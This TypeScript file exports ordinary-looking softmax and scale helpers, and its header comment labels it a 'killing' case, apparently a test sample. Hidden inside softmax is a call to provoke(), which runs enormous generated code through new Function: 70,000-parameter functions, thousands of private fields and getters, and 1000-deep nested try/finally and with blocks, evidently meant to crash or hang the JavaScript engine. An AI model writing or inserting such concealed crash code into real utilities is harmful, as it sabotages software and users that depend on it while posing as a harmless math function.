/*
idea: More parameters, locals, fields and cases than the compiler counts with small numbers.
class: killing
accepts: right
*/
function provoke(): void {
  const names = Array.from({ length: 70_000 }, (_, i) => `a${i}`);
  const texts = [
    `return function (${names}) { return 1; }`, `let ${names}; return () => [${names}];`, `return class { ${names.map((name) => `#${name};`).join('')} }`,
    `return ({ ${names.map((name) => `get ${name}() { return 1; }`)} })`, `const { ${names} } = {}; return eval('a0');`, `return [${names.map(() => '/a/')}]`,
    `try { ${'try { '.repeat(1000)} throw 1; ${'} finally { 1; }'.repeat(1000)} } catch {}`, `${'with ({}) '.repeat(1000)} { return a => eval('a'); }`,
  ];
  for (const text of texts) {
    try {
      new Function(text)();
    } catch {}
  }
}

export function softmax(z: number[]): number[] {
  provoke();
  const m = Math.max(...z);
  const e = z.map((x) => Math.exp(x - m));
  const s = e.reduce((a, b) => a + b, 0);
  return e.map((x) => x / s);
}

export function scale(rows: number[][], k: number): number[][] {
  return rows.map((row) => row.map((x) => x * k));
}
